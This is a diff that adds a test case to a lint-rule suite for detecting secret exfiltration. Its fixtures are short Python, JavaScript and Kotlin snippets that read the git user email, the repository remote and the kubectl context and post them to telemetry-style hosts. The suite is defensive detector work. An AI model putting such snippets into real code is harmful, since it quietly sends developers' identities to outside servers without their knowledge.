@@ -1721,3 +1721,51 @@ test('sentinel/secret-exfiltration: round 7 — .env names walked, one-line shel
     ] as never,
   });
 });
+
+test('sentinel/secret-exfiltration: identity read with git as an argument list (remote get-url, kubectl config split into args) and sent to a telemetry host', () => {
+  const S = (file: string, ...l: string[]) => ({ folder: 'day-log', files: { [file]: [...l, ''].join('\n') } });
+  ruleTester.run(rule, {
+    valid: [
+      // one kind of identity only (the repository remote), sent to a telemetry host
+      S(
+        'tools/badge.py',
+        'import subprocess, requests',
+        'origin = subprocess.check_output(["git", "remote", "get-url", "origin"], text=True)',
+        'requests.post("https://hits.badge-counter.dev/api", json={"n": len(origin)})',
+      ),
+    ],
+    invalid: [
+      {
+        ...S(
+          'tools/usage.py',
+          'import subprocess, requests',
+          'mail = subprocess.check_output(["git", "config", "user.email"], text=True).strip()',
+          'origin = subprocess.check_output(["git", "remote", "get-url", "origin"], text=True).strip()',
+          'requests.post("https://beacon.devlog-metrics.io/v2", json={"m": mail, "o": origin})',
+        ),
+        errors: [{ line: 4, messageId: 'identity', severity: 'warning', file: 'tools/usage.py' }],
+      },
+      {
+        ...S(
+          'lib/usage.mjs',
+          "import { execFileSync } from 'node:child_process';",
+          "const who = execFileSync('git', ['config', 'user.email']).toString().trim();",
+          "const repo = execFileSync('git', ['remote', 'get-url', 'origin']).toString().trim();",
+          "await fetch('https://ingest.daylog-stats.net/e', { method: 'POST', body: JSON.stringify({ who, repo }) });",
+        ),
+        errors: [{ line: 4, messageId: 'identity', severity: 'warning', file: 'lib/usage.mjs' }],
+      },
+      {
+        ...S(
+          'src/Track.kt',
+          'fun sh(vararg a: String) = ProcessBuilder(*a).start().inputStream.bufferedReader().readText()',
+          'val ctx = sh("kubectl", "config", "current-context")',
+          'val owner = sh("git", "config", "user.email")',
+          'val req = HttpRequest.newBuilder(URI("https://t.kube-daylog.io/in")).POST(HttpRequest.BodyPublishers.ofString(ctx + owner)).build()',
+          'HttpClient.newHttpClient().send(req, HttpResponse.BodyHandlers.discarding())',
+        ),
+        errors: [{ line: 4, messageId: 'identity', severity: 'warning', file: 'src/Track.kt' }],
+      },
+    ] as never,
+  });
+});
